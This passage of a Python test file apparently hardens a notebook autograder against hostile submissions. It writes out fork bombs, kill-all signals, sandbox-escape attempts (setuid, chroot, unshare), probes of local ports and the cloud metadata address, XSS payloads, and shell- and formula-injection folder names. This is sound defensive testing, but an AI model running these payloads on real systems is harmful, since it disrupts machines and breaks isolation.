    "            time.sleep(0.01)\n    except BaseException:\n        pass",
    "endless power": "3 ** (10 ** 10)",
    "endless finaliser": "class Stay:\n    def __del__(self):\n"
    "        while True:\n            pass\n"
    "stay = Stay()\ndel stay",
    "endless wait with signals ignored": "import signal\nfor number in range(1, 65):\n    try:\n"
    "        signal.signal(number, signal.SIG_IGN)\n"
    "    except (OSError, ValueError):\n        pass\n"
    "while True:\n    time.sleep(100)",
    "stopped itself": "import signal\nos.kill(os.getpid(), signal.SIGSTOP)\ntime.sleep(100)",
}
for what, code in LOOPS.items():
    vandal(what, what, code, states=STOPPED)
vandal(
    "endless call",
    "never returns from a check's call",
    "",
    "def double(x):\n    while True:\n        try:\n            time.sleep(1)\n"
    "        except BaseException:\n            pass",
    double_points=0,
    states=STOPPED,
)
add(
    "endless generator",
    "returns a generator without an end where the check makes a list",
    right(halves="import itertools\n\ndef halves(xs):\n    return itertools.count()"),
    deserves={"halves": 0},
    states=("graded", *STOPPED),
)
ENDLESS = "def {}(*args):\n    while True:\n        pass"
add(
    "endless in two",
    "two exercises loop for ever when called",
    right(**{name: ENDLESS.format(name) for name in ("double", "ramp")}),
    deserves={"double": 0, "ramp": 0},
    states=STOPPED,
)
ENDS = {
    "os._exit": "os._exit(0)",
    "os.abort": "os.abort()",
    "segmentation fault": "import ctypes\nctypes.string_at(0)",
    "stack overflow": "sys.setrecursionlimit(10**9)\ndeep = []\n"
    "for _ in range(10**5):\n    deep = [deep]\nrepr(deep)\nos.abort()",
    "kills 1": "os.kill(1, 9)\nos.kill(os.getppid(), 9)",
    "kills all": "import signal\nos.kill(-1, signal.SIGKILL)\nos.abort()",
    "kills its group": "os.killpg(0, 9)",
}
for what, code in ENDS.items():
    vandal(what, what, code, states=("graded", *STOPPED))
    vandal(
        f"{what} in a call",
        f"{what} when it is called",
        "",
        "def double(x):\n" + "".join(f"    {line}\n" for line in code.split("\n")) + "    return 0",
        double_points=0,
        states=("graded", *STOPPED),
    )
vandal(
    "hundreds of forks",
    "400 processes that stay",
    "count = 0\nfor _ in range(400):\n    try:\n        if os.fork() == 0:\n"
    "            time.sleep(60)\n            os._exit(0)\n        count += 1\n    except OSError:\n"
    "        break\nif count == 400:\n    report('400 processes')",
)
vandal(
    "fork bomb",
    "every process forks, for ever",
    "while True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
    states=STOPPED,
)
vandal(
    "hundreds of threads",
    "600 threads that stay",
    "import threading\ncount = 0\nfor _ in range(600):\n    try:\n"
    "        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()\n"
    "        count += 1\n    except RuntimeError:\n        break",
)
vandal(
    "outlives grading",
    "a process that leaves its session and acts later",
    """import subprocess
for start in range(3):
    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            for fd in range(3, 100):
                try:
                    os.close(fd)
                except OSError:
                    pass
            end = time.time() + 60
            while time.time() < end:
                time.sleep(0.5)
                for root in ("@CANARY@", "/tmp", "/dev/shm"):
                    try:
                        open(root + "/hostile-outlives", "a").write("x")
                    except OSError:
                        pass
        os._exit(0)
subprocess.Popen("nohup sleep 4242 >/dev/null 2>&1 & nohup setsid sleep 4242 &", shell=True)
time.sleep(0.1)""",
    double_points=15,
    states=("graded",),
)
vandal(
    "writes outside",
    "files in every folder that it may write to",
    """import sysconfig
for root in ("@CANARY@", "@COURSE@", "/etc", "/usr/lib", sysconfig.get_paths()["purelib"],
             "/var/tmp", "/root", "/home", sys.prefix, os.path.dirname(re.__file__), "/run", "/"):
    try:
        open(root + "/hostile-canary.txt", "w").write("x")
    except OSError:
        pass""",
    double_points=15,
    states=("graded",),
)
vandal(
    "network",
    "connects to whatever listens, and asks for a name",
    """import socket
ports = set()
for name in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        rows = open(name).read().split("\\n")[1:-1]
    except OSError:
        continue
    ports |= {int(row.split()[1].rsplit(":")[1], 16) for row in rows if row.split()[3] == "0A"}
socket.setdefaulttimeout(0.3)
for port in sorted(ports) + [8786, 8787, 5432]:
    for host in ("127.0.0.1", "::1"):
        try:
            socket.create_connection((host, port), 0.3)
        except OSError:
            continue
        report("reached a port of the machine")
for address in (("169.254.169.254", 80), ("1.1.1.1", 53)):
    try:
        socket.create_connection(address, 0.3)
    except OSError:
        continue
    report("reached the network")""",
    double_points=15,
    states=("graded",),
)
vandal(
    "left for the next",
    "marks in files, environment, abstract sockets and shared memory, looked for by the next",
    """import socket
from multiprocessing import shared_memory
found = []
roots = "/tmp", "/dev/shm", ".", os.path.expanduser("~"), "/var/tmp", "/run", sys.prefix
paths = [root + "/hostile-left" for root in roots]
found += [path for path in paths if os.path.exists(path)]
for path in paths:
    try:
        open(path, "w").write("x")
    except OSError:
        pass
try:
    left = socket.socket(socket.AF_UNIX)
    left.bind("\\0hostile-left")
    left.listen()
except OSError:
    found.append("abstract socket")
import ctypes
libc = ctypes.CDLL(None)
if libc.shmget(0x5EED, 4096, 0o666) >= 0:
    found.append("segment")
libc.shmget(0x5EED, 4096, 0o1666)
if "HOSTILE_LEFT" in os.environ or getattr(re, "hostile_left", 0):
    found.append("environment or module")
os.environ["HOSTILE_LEFT"] = "1"
re.hostile_left = 1
if found:
    report("found what another left: " + ", ".join(found))""",
    double_points=15,
    states=("graded",),
    copies=4,
)
vandal(
    "lowers the limits of others",
    "prlimit, nice and affinity on every process it sees",
    """import resource
for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
    for act in (lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (8, 8)),
                lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                lambda: os.sched_setaffinity(pid, {0})):
        try:
            if pid != os.getpid():
                act()
        except OSError:
            pass""",
)
vandal(
    "new namespaces",
    "unshare, mount, chroot and setuid from inside",
    """import ctypes
libc = ctypes.CDLL(None, use_errno=True)
got = []
if os.fork() == 0:
    libc.unshare(0x10000000 | 0x00020000)
    libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"")
    try:
        os.chroot("/tmp")
    except OSError:
        pass
    os._exit(0)
os.wait()
for act in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: open("/dev/mem", "rb"),
            lambda: open("/proc/sysrq-trigger", "w"), lambda: open("/dev/kmsg", "w")):
    try:
        act()
    except OSError:
        continue
    got.append(1)
if len(got) > 2:
    report("more rights than a submission needs")""",
    double_points=15,
    states=("graded",),
)
cheat(
    "prints what it reaches",
    "prints, displays, returns and raises every secret that it finds",
    f"{FRAMES}{FILES}"
    """
def everything():
    for step in (search, lambda: [look(d) for _, d in files(".", "@COURSE@")],
                 lambda: look(dict(os.environ))):
        try:
            step()
        except RuntimeError as error:
            print(error)
            display(str(error))
            yield str(error)
""",
    {"double": "def double(x):\n    raise ValueError(' '.join(everything()))"},
)

# ---- Feedback pages ------------------------------------------------------------------------------

SCRIPT = "<script>alert('hostile')</script><img src=x onerror=\"alert('hostile')\">"
cheat(
    "script in an exception",
    "HTML in an exception's text and class name",
    f"Bad = type({SCRIPT!r}, (Exception,), {{}})\n",
    {
        "double": f"def double(x):\n    raise ValueError({SCRIPT!r})",
        "halves": f"def halves(xs):\n    raise Bad({SCRIPT!r})",
        "ramp": f"raise Bad({SCRIPT!r})",
    },
)
mends(
    "script in source and memo",
    "HTML in an answer's source, in the memo and in cell metadata",
    lambda nb: (
        find(nb, "double").update(source=f"# </code></pre>{SCRIPT}\n{RIGHT['double']}"),
        find(nb, "memo").update(source=f"{SCRIPT}\n\n[x](javascript:alert('hostile'))"),
        find(nb, "double").metadata.update(name=SCRIPT, tags=[SCRIPT]),
        None,
    )[-1],
)
mends(
    "script in an output",
    "HTML and JavaScript displayed by a cell and stored in outputs",
    lambda nb: (
        find(nb, "double").update(
            source="from IPython.display import HTML, Javascript, display\n"
            f"display(HTML({SCRIPT!r}), Javascript(\"alert('hostile')\"))\n{RIGHT['double']}",
            outputs=[nbformat.v4.new_output("display_data", {"text/html": SCRIPT})],
        ),
        None,
    )[-1],
)
mends(
    "outputs forged",
    "puts outputs of its own making where IPython collects them",
    lambda nb: find(nb, "double").update(
        source=f"""{RIGHT["double"]}

bad = [{{"output_type": "display_data", "data": {{"text/html": {SCRIPT!r}}}, "metadata": {{}}}},
       {{"output_type": "stream", "name": {SCRIPT!r}, "text": [{SCRIPT!r}] * 3}},
       {{"output_type": "error", "ename": {SCRIPT!r}, "evalue": "x", "traceback": [5]}},
       {{"output_type": {SCRIPT!r}}}, 7, None, [[]]]
shell = get_ipython()
getattr(getattr(shell, "outputs", None), "items", []).extend(bad)
def forge(*args, **more):
    getattr(getattr(shell, "outputs", None), "items", []).extend(bad)
shell.events.register("post_run_cell", forge)"""
    ),
    absent=('"text/html": ',),
    states=("graded", *STOPPED),
    deserves={"double": (0, 15)},
)
cheat(
    "terminal codes in an exception",
    "escape codes, a carriage return and right-to-left marks in an exception's text",
    "",
    {
        "double": "def double(x):\n"
        "    raise ValueError('\\x1b[2J\\x1b]0;owned\\x07\\r\\u202eABC\\x00')"
    },
    absent=("\x1b", "\u202eABC", "\\u001b"),
)
cheat(
    "a long exception",
    "an exception with a text of 50 MB",
    "",
    {"double": "def double(x):\n    raise ValueError('<' * 5 * 10**7)"},
    states=("graded", "crashed"),
)

# ---- Odd values ----------------------------------------------------------------------------------

for what, code in {
    "a long integer": "return 10 ** 100_000",
    "a deep list": "out = []\n    for _ in range(10**5):\n        out = [out]\n    return out",
    "a list that holds itself": "out = []\n    out.append(out)\n    return out",
    "a surrogate": "return '\\ud800'",
    "a lock": "import threading\n    return threading.Lock()",
    "a module": "return os",
    "a type": "return float",
    "not implemented": "return NotImplemented",
    "the function itself": "return double",
    "a recarray": "return np.zeros(3, dtype=[('a', 'f8'), ('b', 'O')])",
}.items():
    cheat(
        f"returns {what}",
        f"returns {what}",
        "",
        {"double": f"def double(x):\n    {code}"},
        states=("graded", "crashed"),
    )

# ---- Honest accidents ----------------------------------------------------------------------------


def without(*names):
    def change(nb):
        nb.cells = [
            c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in names
        ]

    return change


def after(name, source):
    """Put a cell of the learner's own after a cell."""

    def change(nb):
        nb.cells.insert(nb.cells.index(find(nb, name)) + 1, code_cell(source))

    return change


def copied(*names):
    def change(nb):
        for name in names:
            cell = find(nb, name)
            copy = nbformat.from_dict(dict(cell, id=f"{cell.id}x"))
            nb.cells.insert(nb.cells.index(cell) + 1, copy)

    return change


def split(nb):
    find(nb, "double").source = "factor = 2"
    after("double", "def double(x):\n    return factor * x")(nb)


def stale_copy(nb):
    """An old attempt, copied with its metadata, then answered in the copy."""
    copied("double")(nb)
    find(nb, "double").source = "def double(x):\n    raise NotImplementedError()"


def renamed_id(nb):
    find(nb, "double").metadata.nbgrader.grade_id = "double-1"


def blocks_swapped(nb):
    cells = nb.cells
    nb.cells = [*cells[:2], *cells[5:8], *cells[2:5], *cells[8:]]


def answer_last(nb):
    cell = find(nb, "double")
    nb.cells.remove(cell)
    nb.cells.append(cell)


def as_markdown(*names):
    def change(nb):
        for name in names:
            cell = find(nb, name)
            cell.cell_type = "markdown"
            cell.pop("outputs"), cell.pop("execution_count")

    return change


def stripped(nb):
    for cell in nb.cells:
        cell.metadata = nbformat.from_dict({})


mends(
    "check deleted", "two check cells are gone", without("test_double_other", "test_halves_example")
)
mends(
    "all checks deleted",
    "every check cell and the imports are gone",
    lambda nb: without(
        "imports", *(c.metadata.nbgrader.grade_id for c in checks(nb) if c.cell_type == "code")
    )(nb),
)
mends("answer deleted", "an answer cell is gone", without("double"), deserves={"double": 0})
mends(
    "exercise deleted",
    "an answer and its checks are gone",
    without("double", "test_double_example", "test_double_other"),
    deserves={"double": 0},
)
mends("memo deleted", "the memo is gone", without("memo"))
mends(
    "cells copied",
    "answer and check copied with their metadata",
    copied("double", "test_double_other"),
)
mends("answered in the copy", "the answer stands in a copy of the untouched cell", stale_copy)
mends("answer split", "an answer split into two cells", split)
mends("answer's id renamed", "an answer's grade id edited", renamed_id)
mends("blocks swapped", "two exercises in another order", blocks_swapped)
mends(
    "answer moved down",
    "an answer stands after its checks",
    answer_last,
    deserves={"double": (0, 15)},
)
mends("answer as markdown", "an answer cell turned into text", as_markdown("double"))
mends("check as markdown", "check cells turned into text", as_markdown("test_double_example"))
mends(
    "metadata stripped",
    "an editor dropped every cell's metadata",
    stripped,
    states=("graded", "refused"),
    deserves={name: (0, points) for name, points in POINTS.items()},
)
mends("own cells with errors", "scratch cells that fail", after("double", "1 / 0\nundefined"))
mends("own cell with bad syntax", "a scratch cell that does not parse", after("double", "def f(:"))
mends(
    "own cell exits", "a leftover exit()", after("double", "exit()"), states=("graded", "crashed")
)
mends(
    "own cell dies",
    "a scratch cell with os._exit",
    after("halves", "import os\nos._exit(3)"),
    states=("graded", "crashed"),
)
mends(
    "own cell loops",
    "a scratch cell that never ends",
    after("halves", "while True:\n    pass"),
    states=("graded", *STOPPED),
)
mends(
    "own cell asks", "a scratch cell with input()", after("halves", "name = input('Your name? ')")
)
mends(
    "own names clash",
    "overwrites names that the checks use, after its answers",
    after("covered", "math = np_ = drawn_xs = close = secret_key = None\nlist = sum"),
    deserves={},
)
mends(
    "magics",
    "%matplotlib inline, %%time, !ls, %timeit, top-level await, display, plt.show()",
    lambda nb: (
        after(
            "double",
            "%matplotlib inline\nimport matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()",
        )(nb),
        after("halves", "%%time\n!ls\n%timeit -n1 -r1 double(1)\nfiles = !echo a")(nb),
        after("ramp", "import asyncio\nawait asyncio.sleep(0)\ndisplay(double(2))\ndouble?")(nb),
        None,
    )[-1],
)
mends(
    "cell magic on an answer",
    "an answer under %%time",
    lambda nb: find(nb, "double").update(source=f"%%time\n{RIGHT['double']}"),
)
add(
    "warns and prints",
    "warnings, logging, stdout and stderr in calls",
    right(
        double="import sys, warnings, logging\n\ndef double(x):\n    warnings.warn('careful')\n"
        "    print('careful', file=sys.stderr)\n    print('out')\n    logging.error('log')\n"
        "    return 2 * x"
    ),
)
add(
    "asks in a call",
    "input() in an answer",
    right(double="def double(x):\n    return 2 * float(input('x? '))"),
    deserves={"double": 0},
)
add(
    "syntax error",
    "an answer that does not parse",
    right(double="def double(x)\n    return 2 * x"),
    deserves={"double": 0},
)
add(
    "error in one",
    "an answer that raises",
    right(halves="def halves(xs):\n    return xs / 2"),
    deserves={"halves": 0},
)
add(
    "crash in one",
    "an answer that crashes Python",
    right(halves="import ctypes\n\ndef halves(xs):\n    ctypes.string_at(0)"),
    deserves={"halves": 0},
    states=("crashed",),
)
add(
    "changes its input",
    "halves in place",
    right(
        halves="def halves(xs):\n    for i in range(len(xs)):\n        xs[i] /= 2\n    return xs"
    ),
    deserves={"halves": 5},
    present=("the input stays as it is",),
)
add(
    "misconception",
    "forgets the sign",
    right(double="def double(x):\n    return 2 * abs(x)"),
    deserves={"double": 5},
    present=("the sign of a number is kept",),
)
add(
    "helper elsewhere",
    "an answer needs a helper of its own cell",
    lambda: text(
        (lambda nb: (nb, nb.cells.insert(2, code_cell("def helper(x):\n    return x + x")))[0])(
            answered(RIGHT | {"double": "def double(x):\n    return helper(x)"})
        )
    ),
)
add(
    "recursion and state",
    "recursion, a counter and a cache",
    right(
        double="calls = 0\n\ndef double(x):\n    global calls\n    calls += 1\n"
        "    return x + same(x)\n\n"
        "def same(x, depth=200):\n    return x if depth == 0 else same(x, depth - 1)",
        ramp="made = {}\n\ndef ramp(n):\n    if n not in made:\n"
        "        made[n] = np.arange(n) / n\n"
        "    return made[n]",
    ),
)
for what, source in {
    "lambda": "double = lambda x: 2 * x",
    "partial": "import functools, operator\ndouble = functools.partial(operator.mul, 2)",
    "callable object": "class Double:\n    def __call__(self, x):\n        return 2 * x\n\n"
    "double = Double()",
    "cached function": "from functools import lru_cache\n\n@lru_cache\n"
    "def double(x):\n    return 2 * x",
    "numpy scalar": "def double(x):\n    return np.float64(2) * x",
    "zero-dimensional array": "def double(x):\n    return np.array(2 * x)",
    "fraction": "from fractions import Fraction\n\ndef double(x):\n    return Fraction(x) * 2",
    "star import": "from math import *\nfrom random import *\n\ndef double(x):\n    return 2 * x",
    "ufunc": "double = np.vectorize(lambda x: 2 * x)",
    "slow but right": "import time\n\ndef double(x):\n    time.sleep(0.1)\n    return 2 * x",
    "many threads inside": "from concurrent.futures import ThreadPoolExecutor\n\ndef double(x):\n"
    "    with ThreadPoolExecutor(4) as pool:\n        return sum(pool.map(float, [x, x]))",
    "subprocess inside": "import subprocess, sys\n\ndef double(x):\n    return float("
    "subprocess.run(['expr', '1'], capture_output=True, text=True).stdout) * 2 * x",
    "temporary file": "import tempfile\n\ndef double(x):\n"
    "    with tempfile.TemporaryFile('w+') as f:\n"
    "        f.write(str(2 * x))\n        f.seek(0)\n        return float(f.read())",
    "emoji and accents": "# été 😀\ndef double(x):\n    π = 2\n    return π * x",
    "carriage returns in the source": "def double(x):\r\n    return 2 * x\r\n",
}.items():
    add(what, f"an answer by {what}", right(double=source))
for what, source in {
    "tuple for a list": "return tuple(x / 2 for x in xs)",
    "array for a list": "return np.array(xs) / 2",
    "generator for a list": "return (x / 2 for x in xs)",
    "map for a list": "return map(lambda x: x / 2, xs)",
    "deque for a list": "from collections import deque\n    return deque(x / 2 for x in xs)",
    "dict view for a list": "return dict(enumerate(x / 2 for x in xs)).values()",
}.items():
    add(what, f"returns a {what}", right(halves=f"def halves(xs):\n    {source}"))
add("untouched", "the release as it is", lambda: text(released()), deserves=NOTHING)
add("solution", "the right answers")
add(
    "restarted mid-way",
    "execution counts that make no sense",
    lambda: text(
        (
            lambda nb: (
                [
                    c.update(execution_count=900 - i)
                    for i, c in enumerate(nb.cells)
                    if c.cell_type == "code"
                ],
                nb,
            )[1]
        )(answered(RIGHT))
    ),
)

# ---- Files ---------------------------------------------------------------------------------------


def of(change):
    """Make bytes by `change(bytes)` from the right answers."""
    return lambda: change(right()())


def refused(name, tries, make=None, **about):
    """Add a case of which nothing can be graded."""
    about = {"deserves": NOTHING, "states": ("refused",)} | about
    add(name, tries, make, **about)


def large_outputs():
    nb = answered(RIGHT)
    line = nbformat.v4.new_output("stream", text="x" * 5 * 10**6)
    find(nb, "double").outputs = [line] * 10
    return text(nb)


def large_notebook():
    nb = answered(RIGHT)
    find(nb, "double").outputs = [nbformat.v4.new_output("stream", text="x" * 106 * 10**6)]
    return text(nb)


def many_cells():
    nb = json.loads(right()())
    empty = '{"cell_type":"code","metadata":{},"source":"","outputs":[],"execution_count":null}'
    head, tail = json.dumps(nb).split('"cells": [', 1)
    return f'{head}"cells": [{",".join([empty] * 10**6)},{tail}'.encode()


def old(version, minor=None):
    def make():
        nb = answered(RIGHT)
        if minor is not None:
            nb.nbformat_minor = minor
            for cell in nb.cells:
                cell.pop("id", None)
            return json.dumps(nb).encode()
        return nbformat.writes(nbformat.convert(nb, version)).encode()

    return make


add("byte order mark", "UTF-8 with a byte order mark", of(lambda b: b"\xef\xbb\xbf" + b))
add("CRLF", "lines end as on Windows", of(lambda b: b.replace(b"\n", b"\r\n")))
add("nbformat 3", "a notebook of the old format 3", old(3))
add("nbformat 4.0", "a notebook of format 4.0, without cell ids", old(4, 0))
add(
    "nbformat 4.99",
    "a notebook of a format to come",
    of(lambda b: re.sub(rb'"nbformat_minor": \d+', b'"nbformat_minor": 99', b)),
)
refused(
    "nbformat 9",
    "a notebook of a format that is not there",
    of(lambda b: re.sub(rb'"nbformat": \d+', b'"nbformat": 9', b)),
)
add("50 MB of outputs", "stored outputs of 50 MB", large_outputs)
refused("106 MB", "a notebook larger than the limit", large_notebook)
add(
    "a million cells",
    "a million empty cells",
    many_cells,
    states=("refused", "graded", "timed out"),
    deserves={name: (0, points) for name, points in POINTS.items()},
)
refused("empty file", "a file without content", lambda: b"")
refused("truncated", "a notebook cut off", of(lambda b: b[:700]))
refused(
    "merge conflict",
    "git's conflict marks in it",
    of(lambda b: b.replace(b'"cells"', b'<<<<<<< HEAD\n"cells"', 1)),
)
refused("UTF-16", "saved as UTF-16", of(lambda b: b.decode().encode("utf-16")))
refused(
    "Latin-1",
    "saved as Latin-1, with accents",
    of(lambda b: b.replace(b"My memo.", "é".encode("latin-1"))),
)
refused("trailing commas", "JSON with trailing commas", of(lambda b: b.replace(b"]", b",]", 1)))
refused(
    "deep nesting",
    "lists nested 200,000 deep",
    of(
        lambda b: b.replace(
            b'"cells"', b'"x": ' + b"[" * 200_000 + b"]" * 200_000 + b', "cells"', 1
        )
    ),
)
refused(
    "nested 900 deep",
    "lists nested 900 deep",
    of(lambda b: b.replace(b'"cells"', b'"x": ' + b"[" * 900 + b"]" * 900 + b', "cells"', 1)),
    states=("refused", "graded"),
    deserves={name: (0, points) for name, points in POINTS.items()},
)
refused("not a notebook", "a JSON list", lambda: b"[1, 2, 3]")
refused("a zip file", "a zip file named as the notebook", lambda: b"PK\x03\x04" + bytes(5000))
refused(
    "cells of a wrong kind",
    "cells that are numbers, null and nested lists",
    lambda: json.dumps(
        {
            "cells": [1, None, [[]], {"cell_type": 5, "source": {"a": 1}, "metadata": []}],
            "metadata": [],
            "nbformat": 4,
            "nbformat_minor": 5,
        }
    ).encode(),
    states=("refused", "graded"),
)
add(
    "repeated keys and NaN",
    "JSON with NaN and with keys that stand twice",
    of(lambda b: b.replace(b'"nbformat":', b'"x": NaN, "x": Infinity, "nbformat":', 1)),
)
refused(
    "another unit's notebook",
    "none of the exercises is in it",
    lambda: text(nbformat.v4.new_notebook(cells=[code_cell("print('hello')")])),
    states=("refused", "graded"),
)
add(
    "a surrogate in the source",
    "half a character in an answer's source",
    of(lambda b: b.replace(b"def double(x)", b"# \\ud800\\ndef double(x)")),
    deserves={"double": (0, 15)},
)
add(
    "a null in the source",
    "a null byte in an answer's source",
    of(lambda b: b.replace(b"def double(x)", b"# \\u0000\\ndef double(x)")),
    deserves={"double": (0, 15)},
)
add(
    "a source of 20 MB",
    "an answer's source with a text of 20 MB",
    of(lambda b: b.replace(b"def double(x)", b"x = '" + b"y" * 2 * 10**7 + b"'\\ndef double(x)")),
    deserves={name: (0, points) for name, points in POINTS.items()},
    states=ANY,
)
add(
    "deep parentheses",
    "a source that overflows the parser",
    of(
        lambda b: b.replace(b"def double(x)", b"(" * 100_000 + b")" * 100_000 + b"\\ndef double(x)")
    ),
    deserves={"double": 0},
    states=("graded", "crashed"),
)
add("renamed", "the lone notebook has another name", file="Untitled.ipynb")
add("browser's copy", "the lone notebook is `hostile (1).ipynb`", file=f"{UNIT} (1).ipynb")
add(
    "upper case",
    "the lone notebook ends in .IPYNB",
    file="Hostile.IPYNB",
    states=("graded", "refused"),
    deserves={name: (0, points) for name, points in POINTS.items()},
)


def lays(**names):
    """Lay more notebooks beside, by name."""

    def lay(folder):
        for name, make in names.items():
            (folder / f"{name}.ipynb").write_bytes(make())

    return lay


add(
    "a copy beside it",
    "an empty copy lies beside the notebook",
    lay=lays(**{f"{UNIT} (1)": lambda: text(released()), "Untitled": lambda: b""}),
)
refused("no notebook", "a folder with other files", lambda: None, lay=beside(answers_py="x = 1\n"))
refused("empty folder", "an empty folder", lambda: None)
add(
    "files beside it",
    "data and checkpoints lie beside the notebook",
    lay=beside(**{"data.csv": "a,b\n", ".ipynb_checkpoints__hostile-checkpoint.ipynb": "{"}),
)

# ---- Tricks with folders and links ---------------------------------------------------------------

NOTE = f"def double(x):\n    return 2 * x  # {OTHERS}"
add("victim", "another student's good work", right(double=NOTE), student="aa victim")


def link(target):
    """Make the notebook a link to something in the course."""

    def lay(folder):
        (folder / f"{UNIT}.ipynb").symlink_to(folder.parents[2] / target)

    return lay


def link_folder(folder):
    victim = folder.parents[1] / "aa victim" / UNIT
    folder.rmdir()
    folder.symlink_to(victim, target_is_directory=True)


def link_student(folder):
    folder.rmdir()
    folder.parent.rmdir()
    folder.parent.symlink_to(folder.parents[1] / "aa victim", target_is_directory=True)


def fifo(folder):
    os.mkfifo(folder / f"{UNIT}.ipynb")


def directory(folder):
    (folder / f"{UNIT}.ipynb").mkdir()
    (folder / f"{UNIT}.ipynb" / "inside.ipynb").write_bytes(right()())


def links_beside(folder):
    (folder / "data.csv").symlink_to("/etc/passwd")
    (folder / "course").symlink_to(folder.parents[2], target_is_directory=True)
    (folder / "round").symlink_to(folder, target_is_directory=True)
    os.mkfifo(folder / "pipe.csv")


def many_files(folder):
    for number in range(3000):
        (folder / f"{number}.txt").write_text("x")


def sparse_file(folder):
    with open(folder / "data.bin", "wb") as file:
        file.truncate(2**40)


refused(
    "link to the source",
    "the notebook is a link to the instructor's",
    lambda: None,
    lay=link(f"source/{UNIT}/{UNIT}.ipynb"),
)
refused(
    "link to the gradebook",
    "the notebook is a link to the gradebook",
    lambda: None,
    lay=link("gradebook.db"),
)
refused(
    "link to another's notebook",
    "the notebook is a link to another student's",
    lambda: None,
    lay=link(f"submitted/aa victim/{UNIT}/{UNIT}.ipynb"),
)
refused(
    "link to a device", "the notebook is a link to /dev/zero", lambda: None, lay=link("/dev/zero")
)
refused(
    "link to itself",
    "the notebook is a link to itself",
    lambda: None,
    lay=link(f"submitted/link to itself/{UNIT}/{UNIT}.ipynb"),
)
refused("folder linked", "the folder is a link to another student's", lambda: None, lay=link_folder)
refused(
    "student linked", "the student's folder is a link to another's", lambda: None, lay=link_student
)
refused("pipe as notebook", "the notebook is a pipe that nobody writes to", lambda: None, lay=fifo)
refused("directory as notebook", "the notebook is a directory", lambda: None, lay=directory)
add(
    "links beside it",
    "links out of the folder and a pipe lie beside the notebook",
    lay=links_beside,
)
add("3000 files beside it", "3000 files lie beside the notebook", lay=many_files)
add("1 TB beside it", "a sparse file of 1 TB lies beside the notebook", lay=sparse_file)
for shown, student in {
    "formula": '=HYPERLINK("http:x","y")',
    "plus": "+1",
    "at": "@SUM(1)",
    "minus": "-2",
    "option": "--help",
    "tab and formula": "\t=1",
    "separators": "a,b;c",
    "newline": "two\nlines",
    "quotes": "q\"u'o\\te",
    "look-alike of a path": "a\u2215..\u2215..\u2215x",
    "right to left": "\u202egnp.exe",
    "HTML": "<img src=x onerror=alert('hostile')>",
    "shell": "$(touch x)`id`;&|%s{0}",
    "globs": "br[a]cket*?",
    "spaces": " bob ",
    "long": "x" * 255,
    "bytes": b"\xff\xfe".decode("utf-8", "surrogateescape"),
}.items():
    # A name that files and tables cannot hold or show may be refused.
    hard = shown in ("bytes", "long", "newline", "tab and formula", "right to left")
    add(
        f"name: {shown}",
        f"a student's folder named {ascii(student)[:40]}",
        student=student,
        states=("graded", "refused") if hard else ("graded",),
        deserves={name: (0, points) for name, points in POINTS.items()} if hard else {},
    )
for shown, student, make, deserved in (
    ("composed", "Zo\u00eb", right(), {}),
    ("decomposed", "Zoe\u0308", lambda: text(answered(WRONG)), NOTHING),
    ("Latin", "alice", right(), {}),
    ("Cyrillic", "\u0430lice", lambda: text(answered(WRONG)), NOTHING),
    ("upper case", "Alice", lambda: text(answered(WRONG)), NOTHING),
):
    add(
        f"twin: {shown}",
        f"a name that looks like another's ({shown})",
        make,
        student=student,
        deserves=deserved,
    )

# ---- Handed in again -----------------------------------------------------------------------------

BAD = lambda: text(answered(WRONG))  # noqa: E731
refused("good, then broken", "first right, then cut off", of(lambda b: b[:700]), earlier=right())
add("broken, then good", "first cut off, then right", earlier=of(lambda b: b[:700]))
add("good, then wrong", "first right, then wrong", BAD, deserves=NOTHING, earlier=right())
add("the same again", "the same bytes again", earlier=right())
add(
    "good, then crash",
    "first right, then an answer crashes",
    right(double="import os\n\ndef double(x):\n    os._exit(1)"),
    deserves={"double": 0},
    states=("crashed",),
    earlier=right(),
)
refused(
    "good, then nothing", "first right, then the notebook is gone", lambda: None, earlier=right()
)
add(
    RESUBMITTED,
    "the new notebook says that it is older",
    earlier=BAD,
    lay=lambda folder: (folder / "timestamp.txt").write_text("1999-01-01 00:00:00 UTC"),
)
add(
    "a broken timestamp",
    "timestamp.txt holds anything",
    lay=lambda folder: (folder / "timestamp.txt").write_bytes(b"\xff=1+1<script>"),
)
assert len({case.name for case in CASES}) == len(CASES)
